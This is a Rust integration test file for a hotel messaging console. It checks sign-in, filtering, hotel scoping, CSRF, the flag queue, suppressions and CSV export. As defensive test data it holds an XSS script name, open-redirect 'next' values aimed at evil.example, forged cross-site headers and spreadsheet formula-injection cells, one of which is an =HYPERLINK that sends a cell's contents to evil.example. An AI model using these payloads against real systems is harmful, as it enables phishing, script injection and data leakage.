//! The web console over a real HTTP socket: sign-in, filters, paging, hotel scoping,
//! escaping, CSV, CSRF and the flag workflow, on SQLite and PostgreSQL.
use std::collections::HashSet;

use reqwest::StatusCode;
use sentlog::config::Settings;
use sentlog::proto::{self, Channel, MessageStatus};

use crate::backend_tests;
use crate::common::*;

backend_tests!(
    sign_in_filters_paging_and_hotel_scope,
    flag_queue_workflow_with_csrf,
    sign_in_stays_on_the_console_and_needs_its_own_form,
    csv_neutralises_formulas_and_masks_like_the_page,
    the_messages_page_warns_of_the_sender_s_own_failures,
    suppressions_are_listed_added_and_lifted,
);

/// A cookie-keeping HTTP client that does not follow redirects (tests look at them).
struct Browser {
    http: reqwest::Client,
    base: String,
    cookie: Option<String>,
}

struct Page {
    status: StatusCode,
    location: String,
    body: String,
}

impl Page {
    /// The CSRF token of the page's forms.
    fn csrf(&self) -> String {
        let at = self
            .body
            .find("name=\"csrf\" value=\"")
            .expect("a form with csrf")
            + 19;
        self.body[at..].split('"').next().unwrap().to_string()
    }

    /// Message ids linked from the list's rows.
    fn message_ids(&self) -> Vec<String> {
        self.body
            .split("href=\"/messages/")
            .skip(1)
            .map(|s| s.split('"').next().unwrap().to_string())
            .collect()
    }

    /// The href of the "Next page" link, if any.
    fn next_link(&self) -> Option<String> {
        let end = self.body.find("rel=\"next\"")?;
        let start = self.body[..end].rfind("href=\"")? + 6;
        Some(
            self.body[start..end]
                .split('"')
                .next()?
                .replace("&amp;", "&"),
        )
    }
}

impl Browser {
    fn new(server: &TestServer) -> Browser {
        let addr = server
            .server
            .as_ref()
            .unwrap()
            .console_addr
            .expect("console on");
        Browser {
            http: reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .unwrap(),
            base: format!("http://{addr}"),
            cookie: None,
        }
    }

    async fn send(&mut self, request: reqwest::RequestBuilder) -> Page {
        let request = match &self.cookie {
            Some(c) => request.header("cookie", c),
            None => request,
        };
        let response = request.send().await.expect("console answers");
        if let Some(set) = response.headers().get("set-cookie") {
            let set = set.to_str().unwrap();
            assert!(
                set.contains("HttpOnly") && set.contains("SameSite=Strict"),
                "{set}"
            );
            self.cookie = Some(set.split(';').next().unwrap().to_string());
        }
        Page {
            status: response.status(),
            location: response
                .headers()
                .get("location")
                .map(|l| l.to_str().unwrap().to_string())
                .unwrap_or_default(),
            body: response.text().await.unwrap(),
        }
    }

    async fn get(&mut self, path: &str) -> Page {
        let r = self.http.get(format!("{}{path}", self.base));
        self.send(r).await
    }

    /// Signs in as a person would: the sign-in page, then its form.
    async fn sign_in(&mut self, token: &str, next: &str) -> Page {
        let query = form_urlencoded::Serializer::new(String::new())
            .append_pair("next", next)
            .finish();
        let form = self.get(&format!("/signin?{query}")).await;
        assert_eq!(form.status, StatusCode::OK);
        let csrf = form.csrf();
        self.post(
            "/signin",
            &[("token", token), ("next", next), ("csrf", &csrf)],
        )
        .await
    }

    async fn post(&mut self, path: &str, form: &[(&str, &str)]) -> Page {
        self.post_with(path, form, &[]).await
    }

    async fn post_with(
        &mut self,
        path: &str,
        form: &[(&str, &str)],
        headers: &[(&str, &str)],
    ) -> Page {
        let body = form_urlencoded::Serializer::new(String::new())
            .extend_pairs(form)
            .finish();
        let r = self
            .http
            .post(format!("{}{path}", self.base))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body);
        let r = headers.iter().fold(r, |r, (k, v)| r.header(*k, *v));
        self.send(r).await
    }
}

fn with_tokens(s: &mut Settings) {
    s.tokens = token_settings(&[
        ("tok-ingest", "ingest", "h1"),
        ("tok-agent-h1", "agent", "h1"),
        ("tok-csm-h1", "csm", "h1"),
    ]);
}

fn stay(m: &mut proto::NewMessage, check_in: &str, check_out: &str) {
    m.check_in_date = check_in.into();
    m.check_out_date = check_out.into();
}

async fn sign_in_filters_paging_and_hotel_scope(db: TestDb) {
    let server = TestServer::start_with(db, with_tokens).await;
    // Seed through a second instance without tokens on the same database.
    let seeder = server
        .another_instance(|s| s.console_listen = "off".into())
        .await;
    let mut client = seeder.messages();
    let mut batch = Vec::new();
    for i in 0..60 {
        let mut m = new_message("h1", &format!("bulk-{i}"), "+33 6 00 00 00 01");
        stay(&mut m, "2026-12-01", "2026-12-03");
        batch.push(m);
    }
    let mut sms = new_message("h1", "sms-1", "06 12 34 56 78");
    sms.channel = Channel::Sms as i32;
    sms.campaign_id = "c-upsell".into();
    sms.campaign_name = "Spa upsell".into();
    stay(&mut sms, "2026-12-24", "2026-12-27");
    let mut script = new_message("h1", "xss", "+33 6 99 99 99 99");
    script.guest_name = "<script>alert(1)</script>".into();
    stay(&mut script, "2026-12-10", "2026-12-31");
    let mut other = new_message("h2", "other", "06 12 34 56 78");
    other.guest_name = "Guest of another hotel".into();
    batch.extend([sms, script, other]);
    let ids = record(&mut client, batch).await;
    let (sms_id, other_id) = (ids[60].clone(), ids[62].clone());
    client
        .update_statuses(proto::UpdateStatusesRequest {
            events: vec![proto::StatusEvent {
                message_id: sms_id.clone(),
                status: MessageStatus::Delivered as i32,
                occurred_at: Some(prost_types::Timestamp {
                    seconds: 1_790_000_000,
                    nanos: 0,
                }),
                ..Default::default()
            }],
        })
        .await
        .unwrap();

    let mut browser = Browser::new(&server);
    // Not signed in: to the sign-in page, and back after.
    let page = browser.get("/messages?channel=SMS").await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);
    assert_eq!(page.location, "/signin?next=%2Fmessages%3Fchannel%3DSMS");
    let refused = browser.sign_in("nope", "/messages").await;
    assert_eq!(refused.status, StatusCode::UNAUTHORIZED);
    let ingest = browser.sign_in("tok-ingest", "/messages").await;
    assert_eq!(ingest.status, StatusCode::UNAUTHORIZED);
    assert!(ingest.body.contains("for services"));
    assert_eq!(
        browser.get("/messages").await.status,
        StatusCode::SEE_OTHER,
        "a refused token opens no session"
    );
    let signed_in = browser
        .sign_in("tok-agent-h1", "/messages?channel=SMS")
        .await;
    assert_eq!(signed_in.status, StatusCode::SEE_OTHER);
    assert_eq!(signed_in.location, "/messages?channel=SMS");
    let cookie = browser.cookie.clone().expect("a session cookie");
    assert!(
        !cookie.contains("tok-agent-h1"),
        "the cookie holds no token"
    );
    let offsite = browser.sign_in("tok-agent-h1", "//evil.example").await;
    assert_eq!(
        offsite.location, "/messages",
        "never redirects off the console"
    );

    // The first page: this hotel only, newest first, counts above, escaped names.
    let page = browser.get("/messages").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body.contains("62</strong> messages"),
        "h1 only in the counts"
    );
    assert!(!page.body.contains("Guest of another hotel"));
    assert!(page.body.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(!page.body.contains("<script>alert(1)"));
    let first = page.message_ids();
    assert_eq!(first.len(), 50);
    assert!(!first.contains(&other_id));
    let next = page.next_link().expect("a next page");
    let second = browser.get(&next).await;
    let rest = second.message_ids();
    assert_eq!(rest.len(), 12);
    assert!(second.next_link().is_none());
    let all: HashSet<_> = first.iter().chain(&rest).collect();
    assert_eq!(all.len(), 62, "no repeat, no skip");

    // Each filter alone: a national-format phone, campaign, dates, channel, status.
    for (query, expected) in [
        ("phone=06+12+34+56+78", vec![&sms_id]),
        ("phone=%2B33612345678&channel=SMS", vec![&sms_id]),
        ("campaign=spa", vec![&sms_id]),
        (
            "check_in_from=2026-12-20&check_in_to=2026-12-25",
            vec![&sms_id],
        ),
        (
            "check_out_from=2026-12-27&check_out_to=2026-12-27",
            vec![&sms_id],
        ),
        ("channel=SMS", vec![&sms_id]),
        ("status=DELIVERED", vec![&sms_id]),
        ("status=DELIVERED&channel=WHATSAPP", vec![]),
    ] {
        let page = browser.get(&format!("/messages?{query}")).await;
        assert_eq!(page.status, StatusCode::OK, "{query}");
        let got = page.message_ids();
        assert_eq!(got.iter().collect::<Vec<_>>(), expected, "{query}");
    }
    let found = browser.get("/messages?phone=06+12+34+56+78").await;
    assert!(
        found.body.contains("Livré"),
        "status in the console's words"
    );
    assert!(
        !found.body.contains("+33612345678"),
        "agents see masked phones"
    );
    // Bad input names the field and keeps the form.
    let bad = browser.get("/messages?check_in_from=24%2F12%2F2026").await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(bad.body.contains("check_in_from"), "{}", bad.body);
    let foreign = browser.get("/messages?hotel=h2").await;
    assert_eq!(foreign.status, StatusCode::FORBIDDEN);

    // One message with its history; another hotel's is not found.
    let detail = browser.get(&format!("/messages/{sms_id}")).await;
    assert_eq!(detail.status, StatusCode::OK);
    assert!(detail.body.contains("Status history") && detail.body.contains("Livré"));
    assert_eq!(
        browser.get(&format!("/messages/{other_id}")).await.status,
        StatusCode::NOT_FOUND
    );
    // The campaign funnel, drawn in SVG.
    let campaign = browser.get("/campaigns/h1/c-upsell").await;
    assert_eq!(campaign.status, StatusCode::OK);
    assert!(campaign.body.contains("<svg") && campaign.body.contains("100.0 %"));
    assert_eq!(
        browser.get("/campaigns/h2/c-checkin").await.status,
        StatusCode::FORBIDDEN
    );

    // CSV of the current filter: every matching message, streamed.
    let csv = browser.get("/messages.csv?channel=WHATSAPP").await;
    assert_eq!(csv.status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 61);
    assert!(rows.iter().all(|r| &r[1] == "h1"));

    // Agents do not work the flag queue.
    assert_eq!(browser.get("/flags").await.status, StatusCode::FORBIDDEN);
    // Signing out needs the form's CSRF token, then ends the session.
    let page = browser.get("/messages").await;
    assert_eq!(
        browser.post("/signout", &[("csrf", "forged")]).await.status,
        StatusCode::FORBIDDEN
    );
    let out = browser.post("/signout", &[("csrf", &page.csrf())]).await;
    assert_eq!(out.location, "/signin");
    assert_eq!(browser.get("/messages").await.status, StatusCode::SEE_OTHER);
    seeder.stop().await;
    server.stop().await;
}

async fn flag_queue_workflow_with_csrf(db: TestDb) {
    let server = TestServer::start(db).await;
    let mut m = new_message("h", "m-mismatch", "06 12 34 56 78");
    m.channel = Channel::Sms as i32;
    m.status = MessageStatus::Undelivered as i32;
    m.provider = "twilio".into();
    m.error_code = "30003".into();
    m.pms_guest_id = "g-1".into();
    m.guest_name = "Camille Martin".into();
    record(&mut server.messages(), vec![m]).await;
    server
        .guests()
        .upsert_guests(proto::UpsertGuestsRequest {
            guests: vec![proto::PmsGuest {
                hotel_id: "h".into(),
                pms_guest_id: "g-1".into(),
                full_name: "Camille Martin".into(),
                phone: "06 12 34 56 87".into(),
                ..Default::default()
            }],
        })
        .await
        .unwrap();

    // No tokens: no sign-in, a banner says so, and forms still carry CSRF tokens.
    let mut browser = Browser::new(&server);
    let queue = browser.get("/flags").await;
    assert_eq!(queue.status, StatusCode::OK);
    assert!(queue.body.contains("Sign-in is off"));
    assert!(queue.body.contains("No flag to work on"));
    let csrf = queue.csrf();
    let forged = browser.post("/reconcile", &[("csrf", "x")]).await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN);
    let mut stranger = Browser::new(&server);
    stranger.get("/flags").await;
    let foreign = stranger.post("/reconcile", &[("csrf", &csrf)]).await;
    assert_eq!(
        foreign.status,
        StatusCode::FORBIDDEN,
        "another session's token"
    );

    let ran = browser
        .post("/reconcile", &[("csrf", &csrf), ("return", "/flags")])
        .await;
    assert_eq!(ran.status, StatusCode::SEE_OTHER);
    assert!(ran.location.starts_with("/flags?done="), "{}", ran.location);
    let queue = browser.get(&ran.location).await;
    assert!(queue.body.contains("1 flags raised"));
    // The banner says only what the server issued, to this session.
    let spoofed = browser
        .get("/flags?done=Your+account+is+locked%2C+call+%2B33+1+23+45+67+89")
        .await;
    assert!(!spoofed.body.contains("account is locked"));
    assert!(!spoofed.body.contains("<p class=\"ok\""));
    let replayed = stranger.get(&ran.location).await;
    assert!(
        !replayed.body.contains("flags raised"),
        "another session's notice"
    );
    assert!(queue.body.contains("phone mismatch"));
    assert!(
        queue.body.contains("+33612345687"),
        "PMS phone beside the message's"
    );
    let flag_id = queue
        .body
        .split("id=\"flag-")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_string();
    let path = format!("/flags/{flag_id}");
    // The workflow rules of UpdateFlag: OPEN cannot jump to RESOLVED.
    let jump = browser
        .post(&path, &[("csrf", &csrf), ("state", "RESOLVED")])
        .await;
    assert_eq!(jump.status, StatusCode::CONFLICT);
    assert!(jump.body.contains("not a move"), "{}", jump.body);
    let no_csrf = browser.post(&path, &[("state", "ACKNOWLEDGED")]).await;
    assert_eq!(no_csrf.status, StatusCode::FORBIDDEN);
    let ack = browser
        .post(
            &path,
            &[
                ("csrf", &csrf),
                ("state", "ACKNOWLEDGED"),
                ("note", "calling the guest"),
            ],
        )
        .await;
    assert_eq!(ack.status, StatusCode::SEE_OTHER);
    // No guest's name in a URL: the notice names the flag.
    assert!(!ack.location.contains("Camille"), "{}", ack.location);
    assert!(!ack.location.contains("Martin"), "{}", ack.location);
    let after = browser.get(&ack.location).await;
    assert!(
        after
            .body
            .contains(&format!("Flag {flag_id} is now acknowledged.")),
        "{}",
        after.body
    );
    let bad_phone = browser
        .post(
            &path,
            &[
                ("csrf", &csrf),
                ("state", "RESOLVED"),
                ("corrected_phone", "not a phone"),
            ],
        )
        .await;
    assert_eq!(bad_phone.status, StatusCode::BAD_REQUEST);
    assert!(bad_phone.body.contains("corrected_phone"));
    let resolved = browser
        .post(
            &path,
            &[
                ("csrf", &csrf),
                ("state", "RESOLVED"),
                ("corrected_phone", "06 12 34 56 87"),
            ],
        )
        .await;
    assert_eq!(resolved.status, StatusCode::SEE_OTHER);
    // The queue shrinks; the resolved flag is one filter away, with the fix.
    assert!(
        browser
            .get("/flags")
            .await
            .body
            .contains("No flag to work on")
    );
    let done = browser.get("/flags?state=RESOLVED").await;
    assert!(done.body.contains(&format!("id=\"flag-{flag_id}\"")));
    let flag = server
        .reconciliation()
        .get_flag(proto::GetFlagRequest { id: flag_id })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(flag.corrected_phone, "+33612345687");
    assert_eq!(flag.note, "calling the guest");
    server.stop().await;
}

/// The attack run's console findings: the open redirect, login CSRF, a control
/// character in `next`, and dates before 1970.
async fn sign_in_stays_on_the_console_and_needs_its_own_form(db: TestDb) {
    let server = TestServer::start_with(db, with_tokens).await;
    let mut browser = Browser::new(&server);
    for next in [
        "/\t/evil.example/",
        "/\n/evil.example/",
        "//evil.example",
        "/\\evil.example",
        "\t//evil.example",
        "https://evil.example/",
        "/messages\u{1}",
        "/caf\u{e9}",
    ] {
        let page = browser.sign_in("tok-agent-h1", next).await;
        assert_eq!(page.status, StatusCode::SEE_OTHER, "{next:?}");
        assert_eq!(page.location, "/messages", "{next:?}");
    }
    // The sign-in page itself never echoes an unsafe `next` into its form.
    let form = browser.get("/signin?next=%2F%09%2Fevil.example%2F").await;
    assert!(form.body.contains("name=\"next\" value=\"/messages\""));

    // Login CSRF: a sign-in posted by another site, or without this console's form.
    let mut victim = Browser::new(&server);
    let no_form = victim
        .post("/signin", &[("token", "tok-agent-h1"), ("next", "/flags")])
        .await;
    assert_eq!(no_form.status, StatusCode::FORBIDDEN);
    assert!(no_form.body.contains("did not come from this console"));
    assert_eq!(
        victim.get("/messages").await.status,
        StatusCode::SEE_OTHER,
        "no session was opened"
    );
    let csrf = victim.get("/signin").await.csrf();
    let form = [
        ("token", "tok-agent-h1"),
        ("next", "/messages"),
        ("csrf", csrf.as_str()),
    ];
    for headers in [
        [("origin", "http://evil.example")],
        [("sec-fetch-site", "cross-site")],
        [("origin", "null")],
    ] {
        let page = victim.post_with("/signin", &form, &headers).await;
        assert_eq!(page.status, StatusCode::FORBIDDEN, "{headers:?}");
    }
    let own_origin = browser.base.clone();
    let page = victim
        .post_with(
            "/signin",
            &form,
            &[("origin", &own_origin), ("sec-fetch-site", "same-origin")],
        )
        .await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);
    assert_eq!(page.location, "/messages");
    assert_eq!(victim.get("/messages").await.status, StatusCode::OK);

    // Dates take the years timestamps take.
    let early = victim.get("/messages?check_in_from=0000-01-01").await;
    assert_eq!(early.status, StatusCode::BAD_REQUEST);
    assert!(early.body.contains("check_in_from"), "{}", early.body);
    server.stop().await;
}

/// Cells that a spreadsheet would run as formulas open as text, and an agent's CSV
/// masks phones as the page does.
async fn csv_neutralises_formulas_and_masks_like_the_page(db: TestDb) {
    let server = TestServer::start_with(db, with_tokens).await;
    let seeder = server
        .another_instance(|s| s.console_listen = "off".into())
        .await;
    let mut m = new_message("h1", "evil", "+33 6 12 34 56 78");
    m.guest_name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".into();
    m.campaign_id = "@SUM(1+1)".into();
    m.campaign_name = "-2+3".into();
    m.template_name = "\t=cmd".into();
    record(&mut seeder.messages(), vec![m]).await;
    let early = seeder
        .messages()
        .record_messages(proto::RecordMessagesRequest {
            messages: vec![proto::NewMessage {
                check_in_date: "0000-01-01".into(),
                ..new_message("h1", "e-early", "+33612345678")
            }],
        })
        .await
        .unwrap()
        .into_inner();
    assert!(
        early.results[0].error.contains("check_in_date"),
        "{:?}",
        early.results[0]
    );

    let mut agent = Browser::new(&server);
    agent.sign_in("tok-agent-h1", "/messages").await;
    let page = agent.get("/messages").await;
    assert!(page.body.contains("+33*******78"), "the page masks");
    let csv = agent.get("/messages.csv").await;
    assert_eq!(csv.status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
    let header = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(cell("recipient_phone"), "'+33*******78", "masked, as text");
    assert!(!csv.body.contains("+33612345678"), "no whole phone");
    assert_eq!(
        cell("guest_name"),
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(cell("campaign_id"), "'@SUM(1+1)");
    assert_eq!(cell("campaign_name"), "'-2+3");
    // Recorded text is trimmed, so the tab is gone; the formula is not.
    assert_eq!(cell("template_name"), "'=cmd");
    assert_eq!(cell("hotel_id"), "h1", "ordinary cells unchanged");

    // A CSM, who corrects numbers, gets them whole (still as text).
    let mut csm = Browser::new(&server);
    csm.sign_in("tok-csm-h1", "/messages").await;
    let csv = csm.get("/messages.csv").await;
    assert!(csv.body.contains("'+33612345678"), "{}", csv.body);
    seeder.stop().await;
    server.stop().await;
}

/// Failures of the sender's setup are the hub's to fix: the messages page says how many
/// there were this week, in the agent's hotels only, and links to them.
async fn the_messages_page_warns_of_the_sender_s_own_failures(db: TestDb) {
    let server = TestServer::start_with(db, with_tokens).await;
    let seeder = server
        .another_instance(|s| s.console_listen = "off".into())
        .await;
    let failed = |hotel: &str, ext: &str, code: &str| proto::NewMessage {
        status: proto::MessageStatus::Failed as i32,
        error_code: code.into(),
        ..new_message(hotel, ext, "+33612345678")
    };
    let mut agent = Browser::new(&server);
    agent.sign_in("tok-agent-h1", "/messages").await;
    record(&mut seeder.messages(), vec![failed("h1", "fine", "30003")]).await;
    let page = agent.get("/messages").await;
    assert!(!page.body.contains("sender's setup"), "nothing to say yet");
    record(
        &mut seeder.messages(),
        vec![
            failed("h1", "paused-1", "132015"),
            failed("h1", "paused-2", "132015"),
            failed("h2", "elsewhere", "132015"),
        ],
    )
    .await;
    let page = agent.get("/messages").await;
    assert!(
        page.body
            .contains("2 messages failed because of the sender's setup since"),
        "{}",
        page.body
    );
    let link = page
        .body
        .split("href=\"")
        .map(|s| s.split('"').next().unwrap().replace("&amp;", "&"))
        .find(|h| h.contains("error_category=SENDER_SETUP"))
        .expect("a link to the failures");
    let listed = agent.get(&link).await;
    assert_eq!(listed.status, StatusCode::OK);
    assert!(
        listed.body.contains("<strong>2</strong> messages"),
        "{}",
        listed.body
    );
    seeder.stop().await;
    server.stop().await;
}

async fn suppressions_are_listed_added_and_lifted(db: TestDb) {
    let server = TestServer::start(db).await;
    // A STOP the provider reported, on record.
    let mut m = new_message("h", "stop-1", "06 98 76 54 31");
    m.channel = Channel::Sms as i32;
    m.status = MessageStatus::Failed as i32;
    m.provider = "twilio".into();
    m.error_code = "21610".into();
    record(&mut server.messages(), vec![m]).await;
    let mut browser = Browser::new(&server);
    let page = browser.get("/suppressions").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("+33698765431"), "{}", page.body);
    assert!(page.body.contains("opted out"));
    assert!(
        page.body.contains("href=\"/suppressions\""),
        "in the navigation"
    );
    let csrf = page.csrf();
    // A STOP said at the front desk.
    let forged = browser
        .post(
            "/suppressions",
            &[("csrf", "x"), ("hotel", "h"), ("address", "06 11 22 33 44")],
        )
        .await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN);
    let bad = browser
        .post(
            "/suppressions",
            &[("csrf", &csrf), ("hotel", "h"), ("address", "call me")],
        )
        .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(bad.body.contains("address"), "{}", bad.body);
    let added = browser
        .post(
            "/suppressions",
            &[
                ("csrf", &csrf),
                ("hotel", "h"),
                ("address", "06 11 22 33 44"),
                ("note", "said STOP at the front desk"),
            ],
        )
        .await;
    assert_eq!(added.status, StatusCode::SEE_OTHER, "{}", added.body);
    let page = browser.get(&added.location).await;
    assert!(page.body.contains("added."), "the notice");
    assert!(page.body.contains("+33611223344"));
    assert!(page.body.contains("said STOP at the front desk"));
    let c = server
        .reconciliation()
        .check_recipients(proto::CheckRecipientsRequest {
            hotel_id: "h".into(),
            phones: vec!["+33611223344".into()],
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
        .recipients;
    assert_eq!(c[0].verdict, proto::RecipientVerdict::DoNotSend as i32);
    // Lifted with a reason; kept in the history.
    let id = c[0].suppression_id.clone();
    let lifted = browser
        .post(
            &format!("/suppressions/{id}/lift"),
            &[
                ("csrf", &csrf),
                ("note", "opted in again"),
                ("return", "/suppressions?"),
            ],
        )
        .await;
    assert_eq!(lifted.status, StatusCode::SEE_OTHER, "{}", lifted.body);
    let page = browser.get(&lifted.location).await;
    assert!(page.body.contains("lifted"), "{}", page.body);
    assert!(!page.body.contains("+33611223344"), "no longer active");
    let history = browser.get("/suppressions?lifted=on").await;
    assert!(history.body.contains("+33611223344"));
    assert!(history.body.contains("opted in again"));
    server.stop().await;
}
